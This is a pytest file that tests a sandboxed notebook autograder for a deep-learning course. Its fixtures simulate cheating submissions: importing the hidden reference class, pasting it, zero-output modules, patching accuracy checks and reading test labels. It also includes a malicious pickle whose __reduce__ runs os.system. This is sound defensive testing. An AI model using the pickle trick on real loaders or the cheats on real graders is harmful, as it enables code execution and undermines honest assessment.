    # (as an instructor without bubblewrap would run it: the summary must say so)
    again = run_grade(course, A2, subs, "--student", "solver", "--student", "tv3x3",
                      "--out", str(tmp_path / "report"), "--unsafe-no-sandbox")
    assert "UNSAFE" in (tmp_path / "report" / "summary.txt").read_text()
    with (tmp_path / "report" / "grades.csv").open() as fh:
        rows = {r["student"]: r for r in csv.DictReader(fh)}
    assert rows["tv3x3"]["score"] == rows["tv3x3"]["max_score"]
    assert float(rows["tv3x3"]["seconds"]) > 0
    # the solver's file was renamed at collection ("Copy of"), but its content is the same
    assert float(rows["solver"]["seconds"]) == 0 and rows["solver"]["score"] == rows["solver"]["max_score"]
    del again


# --------------------------------------------------------------------------------------------
# Full marks with no work (assignment 2; assignment 3's weights below)
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def graded_free_marks(course, tmp_path_factory) -> Graded:
    """Students who earned full marks without work of their own before the grader hid the reference
    class reached through importlib with a computed name, the reference source pasted (renamed),
    a module whose forward passes hand over zeros; and an honest solution written differently."""
    import inspect

    subs = tmp_path_factory.mktemp("subs_free")
    write(subs / "solver", f"{A2}.ipynb", solved(A2))
    # an honest student's own code, in other words than the solution's: full marks, no flag
    nb = solved(A2)
    cell(nb, "inception_module").source = dedent("""
        class Inception(nn.Module):
            def __init__(self, in_channels, ch1x1, ch3x3red, ch3x3, ch5x5red, ch5x5, pool_proj):
                super().__init__()

                def conv_relu(cin, cout, k):
                    return nn.Sequential(nn.Conv2d(cin, cout, k, padding=k // 2), nn.ReLU(inplace=True))

                self.branch1x1 = conv_relu(in_channels, ch1x1, 1)
                self.branch3x3 = nn.Sequential(conv_relu(in_channels, ch3x3red, 1), conv_relu(ch3x3red, ch3x3, 3))
                self.branch5x5 = nn.Sequential(conv_relu(in_channels, ch5x5red, 1), conv_relu(ch5x5red, ch5x5, 5))
                self.branch_pool = nn.Sequential(nn.MaxPool2d(3, 1, 1), conv_relu(in_channels, pool_proj, 1))
                self.out_channels = sum((ch1x1, ch3x3, ch5x5, pool_proj))

            def forward(self, x):
                outs = [getattr(self, n)(x) for n in ("branch1x1", "branch3x3", "branch5x5", "branch_pool")]
                return torch.cat(outs, dim=1)
    """)
    write(subs / "own_words", f"{A2}.ipynb", nb)
    nb = solved(A2)
    cell(nb, "inception_module").source = dedent("""
        import importlib
        _where = ".".join(["course_pkg", "models", "incep" + "tion"])
        Inception = getattr(importlib.import_module(_where), "Incep" + "tion")
    """)
    write(subs / "importlib", f"{A2}.ipynb", nb)
    from course_pkg.models import inception as _reference

    pasted = inspect.getsource(_reference.Inception).replace("self", "me").replace("branches", "parts")
    nb = solved(A2)
    cell(nb, "inception_module").source = "# written by me\n" + pasted
    write(subs / "paster", f"{A2}.ipynb", nb)
    write(subs / "zeroes", f"{A2}.ipynb", attack(solved(A2), "inception_module", """
        class _Zero(nn.Module):
            def __init__(self, inner, channels):
                super().__init__()
                self.inner, self.channels = inner, channels

            def forward(self, x):
                return torch.zeros(x.shape[0], self.channels, *x.shape[2:])

        _Honest = Inception

        class Inception(_Honest):
            def __init__(self, *args):
                super().__init__(*args)
                for _b, _c in (("branch1x1", args[1]), ("branch3x3", args[3]), ("branch5x5", args[5]),
                               ("branch_pool", args[6])):
                    setattr(self, _b, _Zero(getattr(self, _b), _c))
    """))
    return run_grade(course, A2, subs, "--timeout", "400")


FREE_MODULE_CELLS = ("test_inception_3a_shape", "test_branch1x1", "test_branch3x3", "test_branch5x5",
                     "test_branch_pool", "test_module_totals", "test_shapes_and_order")


def test_free_marks_reference_is_hidden_even_through_importlib(graded_free_marks):
    g = graded_free_marks
    assert g.rows["importlib"]["status"] == "graded", g.rows["importlib"]
    for c in g.cells():
        assert g.score("importlib", c) == (0 if c in FREE_MODULE_CELLS else g.score("solver", c)), c
    assert "hidden while the notebook is graded" in g.output_text("importlib", "test_branch3x3")


def test_free_marks_zero_outputs_earn_nothing(graded_free_marks):
    g = graded_free_marks
    for c in g.cells():
        assert g.score("zeroes", c) == (0 if c in FREE_MODULE_CELLS else g.score("solver", c)), c
    assert "not what its own layers compute" in g.output_text("zeroes", "test_branch1x1")
    assert "Traceback" not in g.output_text("zeroes", "test_branch1x1")


def test_free_marks_pasted_reference_is_flagged_with_evidence(graded_free_marks):
    g = graded_free_marks
    row = g.rows["paster"]
    assert float(row["score"]) == float(row["max_score"]), row  # it works: flagged, not failed
    assert "inception_module: holds 100% of the course's course_pkg/models/inception.py:Inception" in row["flags"]


def test_free_marks_honest_students_are_not_flagged_for_the_courses_code(graded_free_marks):
    """Honest code (the solution, and another student's own words) gets full marks and no flag about
    the course's code; the one flag it gets here is the classmates whose notebooks are copies of the
    same solution file (every student of this class is built from it)."""
    g = graded_free_marks
    for student in ("solver", "own_words"):
        row = g.rows[student]
        assert float(row["score"]) == float(row["max_score"]) > 0, row
        assert "course's" not in row["flags"] and "shipped" not in row["flags"], row
        assert row["flags"] == "" or row["flags"].startswith("written code near-identical to that of "), row
    # and the self-checks say why they do not run, instead of failing the cell
    text = "".join(o.get("text", "") for o in cell(g.autograded("solver"), "naive_module").outputs) + "".join(
        o.get("text", "") for c in g.autograded("solver").cells if c.cell_type == "code" for o in c.outputs)
    assert "not available while grading" in text


def test_outer_time_limit_kills_the_sandbox(course, tmp_path):
    """With a per-cell limit longer than the outer one, the outer limit must stop the student:
    nbgrader, the sandbox and the kernel in it are all killed."""
    import psutil

    nb = solved(A2)
    cell(nb, "naive_module").source = "while True:\n    pass\n"
    write(tmp_path / "hung", f"{A2}.ipynb", nb)
    code = grade_main([A2, "--course-dir", str(course), "--submissions", str(tmp_path), "--student", "hung",
                       "--timeout", "20", "--cell-timeout", "300", "--out", str(tmp_path / "report")])
    assert code == 0
    with (tmp_path / "report" / "grades.csv").open() as fh:
        row = next(csv.DictReader(fh))
    assert row["student"] == "hung" and row["status"] == "failed"
    assert "outer time limit of 20 s" in row["reason"]
    assert float(row["seconds"]) < 40
    # this student's sandbox: the bwrap processes given its private copy, and everything under them
    # (other gradings may run on the machine at the same time: their sandboxes are not this test's)
    left = []
    for proc in psutil.process_iter(["cmdline"]):
        cmd = " ".join(proc.info["cmdline"] or [])
        if ("bwrap" in cmd and "sandboxes/hung" in cmd) or ("ipykernel" in cmd and "course-grade-hung" in cmd):
            try:
                found = [proc, *proc.children(recursive=True)]
            except psutil.NoSuchProcess:
                continue
            left += [(p.pid, " ".join(p.cmdline())[:100]) for p in found if p.is_running()
                     and p.status() != psutil.STATUS_ZOMBIE]
    assert not left, f"sandbox processes left running: {left}"
    assert not list((course / ".nbgrader" / "sandboxes").glob("hung/*")), "the private copy was left behind"


# --------------------------------------------------------------------------------------------
# Assignment 3: checkpoints
# --------------------------------------------------------------------------------------------
A3 = "03_googlenet_aux"


@pytest.fixture(scope="module")
def graded3(course, course_data, tmp_path_factory) -> tuple[Graded, Path]:
    from course_pkg.checkpoint import save_checkpoint
    from course_pkg.models import create

    os.environ["COURSE_DATA"] = str(course_data)
    subs = tmp_path_factory.mktemp("subs3")
    marker = tmp_path_factory.mktemp("marker") / "pwned"
    torch.manual_seed(0)
    # the solution with a checkpoint of the right architecture but untrained weights (no GPU here
    # to train a real one): everything but the accuracy test must pass
    write(subs / "solver", f"{A3}.ipynb", solved(A3))
    save_checkpoint(subs / "solver" / "googlenet_cifar.pt", create("googlenet_cifar", stem="16"),
                    {"model": "googlenet_cifar"})
    # a student who trained: the course's faithful reference network (shipped in the package), saved
    # the way the assignment's training cell saves it (a plain state_dict, aux heads included)
    from course_pkg import pretrained

    write(subs / "trained", f"{A3}.ipynb", solved(A3))
    torch.save(pretrained.load("googlenet_cifar_faithful").state_dict(), subs / "trained" / "googlenet_cifar.pt")
    # the same weights with tiny noise added: still the course's network, flagged
    write(subs / "noisy", f"{A3}.ipynb", solved(A3))
    torch.manual_seed(1)
    torch.save({k: v + 1e-3 * v.float().std() * torch.randn_like(v) if v.is_floating_point() and v.numel() > 1 else v
                for k, v in pretrained.load("googlenet_cifar_faithful").state_dict().items()},
               subs / "noisy" / "googlenet_cifar.pt")
    write(subs / "blank", f"{A3}.ipynb", released(A3))
    write(subs / "nockpt", f"{A3}.ipynb", solved(A3))
    write(subs / "corrupt", f"{A3}.ipynb", solved(A3))
    write(subs / "corrupt", "googlenet_cifar.pt", b"PK\x03\x04" + os.urandom(2000))

    class Evil:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    write(subs / "evil", f"{A3}.ipynb", solved(A3))
    torch.save({"conv1.conv.weight": Evil()}, subs / "evil" / "googlenet_cifar.pt")
    write(subs / "wrongarch", f"{A3}.ipynb", solved(A3))
    torch.save(create("lenet5").state_dict(), subs / "wrongarch" / "googlenet_cifar.pt")
    write(subs / "wholemodel", f"{A3}.ipynb", solved(A3))
    torch.save(create("lenet5", variant="modern"), subs / "wholemodel" / "googlenet_cifar (1).pt")
    # cheats on the accuracy: patching the checks, and a forward that looks its input up in the
    # labelled test split (the sandbox has no data set; the grader measures the course's network)
    untrained = subs / "solver" / "googlenet_cifar.pt"
    write(subs / "patcher", f"{A3}.ipynb", attack(solved(A3), "googlenet", """
        checks.subset_accuracy = lambda *a, **k: 1.0
        checks.load_student_checkpoint = lambda *a, **k: {}
        checks.partial_credit = lambda fraction, points: float(points)
    """))
    shutil.copy(untrained, subs / "patcher" / "googlenet_cifar.pt")
    write(subs / "lookup", f"{A3}.ipynb", attack(solved(A3), "googlenet", """
        try:
            from course_pkg import data as _data
            _images, _labels = _data.load_arrays("cifar10", "test", limit=2000)
            print("read the test split:", len(_labels))
        except BaseException as _e:
            print("no test data in the sandbox:", type(_e).__name__)
    """))
    shutil.copy(untrained, subs / "lookup" / "googlenet_cifar.pt")
    # the right layers and shapes, every output zeros (the auxiliary head and the whole network)
    write(subs / "zeroes", f"{A3}.ipynb", attack(attack(solved(A3), "inception_aux", """
        class InceptionAux(InceptionAux):
            def forward(self, x):
                return torch.zeros_like(super().forward(x))
    """), "googlenet", """
        class GoogLeNet(GoogLeNet):
            def forward(self, x):
                out = super().forward(x)
                return tuple(map(torch.zeros_like, out)) if isinstance(out, tuple) else torch.zeros_like(out)
    """))
    shutil.copy(untrained, subs / "zeroes" / "googlenet_cifar.pt")
    # the course's 60 s per cell: the accuracy cell may have to decode the JPEG test images first;
    # two students at a time, as an instructor grades a class (and half the wall time of this test)
    return run_grade(course, A3, subs, "--timeout", "300", "--jobs", "2", cell_timeout=60), marker


def test_checkpoint_solution_passes_everything_but_accuracy(graded3):
    graded, _ = graded3
    assert graded.rows["solver"]["status"] == "graded", graded.rows["solver"]
    for c in graded.cells():
        expected = 0.0 if c == "test_accuracy" else graded.score("solver", c)
        assert graded.score("solver", c) == expected
        if c != "test_accuracy":
            assert graded.score("solver", c) > 0, c
    text = graded.output_text("solver", "test_accuracy")
    assert "accuracy on the grader's 250 CIFAR-10 test images" in text
    for student in graded.rows:
        assert_no_hidden_tests(graded.feedback(student), A3)
    assert float(graded.rows["solver"]["seconds"]) < 120


def test_outputs_of_zeros_lose_the_cells_about_outputs_only(graded3):
    """The right layers and shapes with outputs of zeros: the cells that run the networks give
    nothing; the parameter counts, the training-mode tuple and the checkpoint are the solver's."""
    graded, _ = graded3
    recomputed = ("test_inception_aux", "test_googlenet_shapes", "test_cifar_model")
    for c in graded.cells():
        assert graded.score("zeroes", c) == (0 if c in recomputed else graded.score("solver", c)), c
    assert "not what its own layers compute" in graded.output_text("zeroes", "test_cifar_model")


def test_accuracy_is_measured_by_the_grader_and_cheats_get_no_credit(graded3):
    graded, _ = graded3
    for student in ("patcher", "lookup"):
        assert graded.rows[student]["status"] == "graded", graded.rows[student]
        assert graded.score(student, "test_accuracy") == graded.score("solver", "test_accuracy") == 0
        assert graded.score(student) <= graded.score("solver")
        assert "accuracy on the grader's 250 CIFAR-10 test images" in graded.output_text(student, "test_accuracy")
    assert "no test data in the sandbox" in graded.output_text("lookup", "googlenet")


def test_checkpoint_blank_scores_zero_everywhere(graded3):
    graded, _ = graded3
    assert graded.rows["blank"]["status"] == "graded"
    assert [graded.score("blank", c) for c in graded.cells()] == [0.0] * len(graded.cells())


@pytest.mark.parametrize("student, message", [
    ("nockpt", "no checkpoint file googlenet_cifar.pt"),
    ("corrupt", "is not a readable zip/PyTorch file"),
    ("evil", "would run Python code"),
    ("wrongarch", "does not fit"),
    ("wholemodel", "whole pickled network"),
])
def test_bad_checkpoints_get_a_clear_message(graded3, student, message):
    graded, _ = graded3
    assert graded.rows[student]["status"] == "graded", graded.rows[student]
    assert graded.score(student, "test_checkpoint_loads") == 0
    assert graded.score(student, "test_accuracy") == 0
    assert message in graded.output_text(student, "test_checkpoint_loads")
    assert message in graded.output_text(student, "test_accuracy")
    # everything that does not need the checkpoint is unaffected
    for c in graded.cells():
        if c not in ("test_checkpoint_loads", "test_accuracy"):
            assert graded.score(student, c) == graded.score("solver", c), (student, c)


def test_malicious_pickle_never_runs(graded3):
    _, marker = graded3
    assert not marker.exists()


def test_solution_with_trained_checkpoint_scores_full_marks(graded3):
    graded, _ = graded3
    row = graded.rows["trained"]
    assert row["status"] == "graded", row
    assert float(row["score"]) == float(row["max_score"]), row
    # the grader's own measurement agrees with the reference run's full test split (250 images:
    # a standard error of about 2.5 points)
    text = graded.output_text("trained", "test_accuracy")
    measured = float(re.search(r"accuracy on the grader's 250 CIFAR-10 test images: ([\d.]+)%", text).group(1)) / 100
    assert abs(measured - pretrained_info("googlenet_cifar_faithful")["test_acc"]) < 0.08, text


def test_shipped_weights_as_ones_own_are_flagged_with_the_distance(graded3):
    """The shipped network handed in as the student's checkpoint, as is or with noise,
    is flagged for manual review with its distance; an untrained network of the course's own seed
    and initialisation (the solver) is not."""
    graded, _ = graded3
    for student, distance in (("trained", "0.0000"), ("noisy", "0.00")):
        flags = graded.rows[student]["flags"]
        assert (f"googlenet_cifar.pt: weights at relative L2 distance {distance}" in flags
                and "shipped checkpoint googlenet_cifar_faithful" in flags), flags
    assert "shipped checkpoint" not in graded.rows["solver"]["flags"]


# --------------------------------------------------------------------------------------------
# Assignments 1 and 4: solution and blank
# --------------------------------------------------------------------------------------------
def test_solution_full_blank_zero_lenet_alexnet(course, tmp_path):
    assignment = "01_lenet_alexnet"
    write(tmp_path / "solver", f"{assignment}.ipynb", solved(assignment))
    write(tmp_path / "blank", f"{assignment}.ipynb", released(assignment))
    nb = solved(assignment)  # the reference network, reached through the registry
    cell(nb, "lenet5").source = ("from course_pkg.models import create\n"
                                 "LeNet5 = lambda: create('lenet5', variant='modern')\n")
    write(tmp_path / "registry", f"{assignment}.ipynb", nb)
    # the right layers, outputs of zeros of the right shape (both networks): nothing for them
    nb = solved(assignment)
    for grade_id, name in (("lenet5", "LeNet5"), ("alexnet", "AlexNet")):
        attack(nb, grade_id, f"""
            class {name}({name}):
                def forward(self, x):
                    return torch.zeros_like(super().forward(x))
        """)
    write(tmp_path / "zeroes", f"{assignment}.ipynb", nb)
    graded = run_grade(course, assignment, tmp_path, "--timeout", "240")
    check_solver_and_blank(graded, assignment)
    assert graded.score("registry", "test_lenet5") == 0
    assert "hidden while the notebook is graded" in graded.output_text("registry", "test_lenet5")
    assert graded.score("registry", "test_alexnet") == graded.score("solver", "test_alexnet") > 0
    for c in graded.cells():
        expected = 0 if c in ("test_lenet5", "test_alexnet") else graded.score("solver", c)
        assert graded.score("zeroes", c) == expected, c
    assert "not what its own layers compute" in graded.output_text("zeroes", "test_alexnet")


def test_two_shards_merged_grade_like_one_run(course, tmp_path):
    """``--shard 1/2`` and ``--shard 2/2`` (as two machines of a job runner would), then ``--merge``."""
    assignment = "04_multicrop"
    write(tmp_path / "solver", f"{assignment}.ipynb", solved(assignment))
    write(tmp_path / "blank", f"{assignment}.ipynb", released(assignment))
    common = [assignment, "--course-dir", str(course), "--submissions", str(tmp_path), "--cell-timeout", "60"]
    assert grade_main([*common, "--shard", "1/2"]) == 0
    assert grade_main([*common, "--shard", "2/2"]) == 0
    shards = sorted((course / ".nbgrader" / "shards" / assignment).iterdir())
    assert [p.name for p in shards] == ["shard-1-of-2", "shard-2-of-2"]
    # each shard graded one of the two students, into a gradebook of its own
    assert sorted(p.name for s in shards for p in s.glob("*.db")) == ["blank.db", "solver.db"]
    assert grade_main([assignment, "--course-dir", str(course), "--merge"]) == 0
    check_solver_and_blank(Graded(course, assignment, 0), assignment)


def check_solver_and_blank(graded: Graded, assignment: str) -> None:
    assert graded.rows["solver"]["status"] == "graded", graded.rows["solver"]
    assert float(graded.rows["solver"]["score"]) == float(graded.rows["solver"]["max_score"]) > 0
    assert [graded.score("blank", c) for c in graded.cells()] == [0.0] * len(graded.cells())
    assert float(graded.rows["solver"]["seconds"]) < 120
    assert_no_hidden_tests(graded.feedback("solver"), assignment)
    assert_no_hidden_tests(graded.feedback("blank"), assignment)


# --------------------------------------------------------------------------------------------
# The grader as an instructor installs it: from the wheel, no checkout on the path
# --------------------------------------------------------------------------------------------
def test_a_class_is_graded_from_an_installed_wheel(course, tmp_path):
    """`course grade` run by a Python that imports course_pkg from an installed wheel (not this
    checkout): its sandbox exposes that copy of the package, and the class is graded as usual."""
    assignment = "01_lenet_alexnet"
    wheels, site = tmp_path / "wheels", tmp_path / "site-packages"
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w",
                    str(wheels), str(REPO)], check=True, timeout=900, capture_output=True)
    (wheel,) = wheels.glob("course_pkg-*.whl")
    subprocess.run([sys.executable, "-m", "pip", "install", "--no-deps", "-q", "--target", str(site), str(wheel)],
                   check=True, timeout=600, capture_output=True)
    submissions = tmp_path / "submissions"
    write(submissions / "solver", f"{assignment}.ipynb", solved(assignment))
    write(submissions / "blank", f"{assignment}.ipynb", released(assignment))
    env = {**os.environ, "PYTHONPATH": str(site)}
    env.pop("COURSE_DATA", None)  # assignment 1 reads no data set
    where = subprocess.run([sys.executable, "-c", "import course_pkg; print(course_pkg.__file__)"], cwd=course,
                           env=env, capture_output=True, text=True, check=True).stdout.strip()
    assert Path(where).is_relative_to(site), f"the grader would import {where}, not the installed wheel"
    done = subprocess.run([sys.executable, "-c", "import sys; from course_pkg.cli import main; sys.exit(main())",
                           "grade", assignment, "--course-dir", str(course), "--submissions", str(submissions),
                           "--cell-timeout", str(CELL_TIMEOUT), "--timeout", "240"],
                          cwd=course, env=env, capture_output=True, text=True, timeout=1200)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "GRADING MACHINERY FAILURE" not in done.stdout + done.stderr
    check_solver_and_blank(Graded(course, assignment, done.returncode), assignment)
